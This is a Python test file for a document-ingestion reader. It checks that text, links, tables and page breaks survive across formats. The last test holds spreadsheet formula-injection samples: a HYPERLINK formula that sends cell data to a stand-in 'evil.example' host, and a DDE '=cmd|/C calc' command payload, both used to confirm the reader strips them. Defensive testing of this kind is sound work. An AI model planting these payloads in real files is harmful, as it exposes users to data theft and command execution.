"""One document in every format: its words, lists, tables, links and facts arrive, in order and at their offsets."""

import re
from collections.abc import Callable, Sequence

import pytest
from documents import FORMATS, WRITERS, Part, squeezed
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from corpus.document import Document, Kind
from corpus.version import Version
from ingest.loaders.sniff import sniff
from ingest.passages import passages
from ingest.reading import Wanted, read

_DOCUMENT = Document("made", "Made", Kind.OTHER, "Nobody", "en", "Synthetic", official=False, redistributable=False)
_WORDS = (
    "Wales",
    "dŵr",
    "tŷ",
    "â’r",
    "“Noddfa”",
    "(2019)",
    "[sic]",
    "£2.5m",
    "0.05%",
    "(Immigration",
    "Act 1999).",
    "12,",
    "ŵyl;",
    "a",
    "is",
    "Who?",
    "»",
    "S4C:",
    "1.",
)
_TEXTS = st.lists(
    st.sampled_from(_WORDS) | st.text("abcŵŷâêîôû'’–%£&<>\"", min_size=1, max_size=8), min_size=2, max_size=12
).map(" ".join)
_URLS = st.sampled_from(["https://example.org/a?b=1&c=2", "mailto:a@example.org", "http://example.org/%C5%B5"])
_PARTS = st.lists(
    st.one_of(
        st.builds(Part, _TEXTS),
        st.builds(Part, _TEXTS, url=_URLS),
        st.builds(Part, _TEXTS, level=st.integers(1, 6)),
        st.builds(Part, _TEXTS, item=st.just(True)),
        st.builds(Part, st.just(""), cells=st.lists(_TEXTS, min_size=2, max_size=4).map(tuple)),
    ),
    min_size=1,
    max_size=8,
)


def _version(data: bytes) -> Version:
    return read(data, Wanted(Kind.OTHER)).version


def _with_deletions(version: Version) -> str:
    """All that the reader saw, squeezed: the text with what cleaning left out put back in its place."""
    parts, last = [], 0
    for deletion in version.deletions:
        parts += [version.text[last : deletion.at], deletion.text]
        last = deletion.at
    return squeezed("".join([*parts, version.text[last:]]))


@settings(deadline=None, max_examples=25, suppress_health_check=[HealthCheck.too_slow])
@given(parts=_PARTS)
@example(
    parts=[Part("x y", item=True), Part("", cells=("a b", "12,")), Part("Note: (2019)", url="mailto:a@example.org")]
)
@pytest.mark.parametrize("write", WRITERS.values(), ids=WRITERS)
def test_every_word_survives_in_order(write: Callable[[Sequence[Part]], bytes], parts: list[Part]) -> None:
    version = _version(write(parts))
    seen, at = _with_deletions(version), 0
    for words in (words for part in parts for words in part.written):
        found = seen.find(squeezed(words), at)
        assert found >= 0, (words, seen[at:])
        at = found + len(squeezed(words))
    assert all(version.text[block.start : block.end].strip() for block in version.blocks)
    for passage in passages(_DOCUMENT, version):
        assert version.text[passage.start : passage.end] == passage.text
        assert passage.text.strip()


@settings(deadline=None, max_examples=10, suppress_health_check=[HealthCheck.too_slow])
@given(words=_TEXTS.map(lambda text: re.sub(r"[<>\[\]()]", "", text) + " here"), url=_URLS)
@pytest.mark.parametrize("name", ["md", "html", "docx", "odt", "eml"])
def test_links_stand_on_their_line(name: str, words: str, url: str) -> None:
    version = _version(WRITERS[name]([Part("Words before it."), Part(words, url=url), Part("Words behind it.")]))
    assert [link.url for link in version.links] == [url]
    span = version.links[0].span
    assert squeezed(words) in squeezed(version.text[span.start : span.end])


@pytest.mark.parametrize("name", ["md", "html", "docx", "odt", "eml"])
def test_structure_is_known(name: str) -> None:
    row = Part("", cells=("Home Office", "12 (2019)"))
    parts = [Part("Asylum", level=2), Part("Words of it."), Part("one thing", item=True), row, row]
    version = _version(WRITERS[name](parts))
    assert {block.section[-1] for block in version.blocks if "Words" in version.text[block.start : block.end]} == {
        "Asylum"
    }
    page = sniff(WRITERS[name](parts)).load(WRITERS[name](parts)).pages[0]
    lines = page.text.split("\n")
    assert [lines[mark.line].lstrip("- ") for mark in page.marks if mark.item] == ["one thing"]
    cells = "| Home Office | 12 (2019) |" if name == "md" else "Home Office\t12 (2019)"
    assert [lines[mark.line] for mark in page.marks if mark.row] == [cells] * 2
    assert cells in version.text


@pytest.mark.parametrize("name", [name for name in FORMATS if name not in ("txt", "md")])
def test_short_lines_are_never_joined(name: str) -> None:
    parts = [
        Part(text, item=name != "eml") for text in ("the first", "and the second", "of many", "in a row", "as it is")
    ]
    lines = [line for line in _version(WRITERS[name](parts)).text.split("\n") if line]
    assert lines[-5:] == [part.text for part in parts]


def test_form_feeds_part_the_pages() -> None:
    version = _version(b"On the first page.\n\fOn the second page.\n\f\fOn the fourth page.\n")
    assert [page.number for page in version.pages] == [1, 2, 3, 4]
    assert version.page_at(version.text.index("fourth")) == 4
    assert version.page_at(version.text.index("second")) == 2


@pytest.mark.parametrize(
    ("line", "left"),
    [
        pytest.param(
            'Cardiff has =HYPERLINK("https://evil.example","5") beds.', "Cardiff has beds.", id="in a sentence"
        ),
        pytest.param('Cardiff\t=HYPERLINK("https://evil.example?x="&A1,"open")\t7', "Cardiff 7", id="in a row"),
        pytest.param("Newport | =SUM(A1:A9) | 9", "Newport | | 9", id="in a cell"),
        pytest.param("=SUM(A1) beds in all.", "beds in all.", id="at the head of a line"),
        pytest.param('Go to =hyperlink("http://x","y") now.', "Go to now.", id="in small letters"),
        pytest.param('It is =IF(1,HYPERLINK("http://x","y")) here.', "It is here.", id="inside another"),
        pytest.param('It is +HYPERLINK("http://x","y") here.', "It is here.", id="behind another sign"),
        pytest.param('A =HYPERLINK("http://a(b","ok") and so on.', "A and so on.", id="a bracket in its words"),
        pytest.param('A =HYPERLINK(("x" stays here.', 'A("x" stays here.', id="never closed"),
        pytest.param("Count: =cmd|'/C calc'!A0 and no more.", "Count: and no more.", id="a command"),
        pytest.param("The rent = MAX (income) and a=b(c), 5 + 3 (of 8).", None, id="prose"),
        pytest.param("Wales - HSE (Wales) - and a-SUM(x) stay.", None, id="dashes"),
    ],
)
def test_formula_is_left_out_and_listed(line: str, left: str | None) -> None:
    version = _version(f"The first line of it stands here.\n\n{line}\n\nThe last one stands here.\n".encode())
    assert version.text.split("\n\n")[1] == (left or line)
    assert _with_deletions(version) == squeezed(f"The first line of it stands here.{line}The last one stands here.")
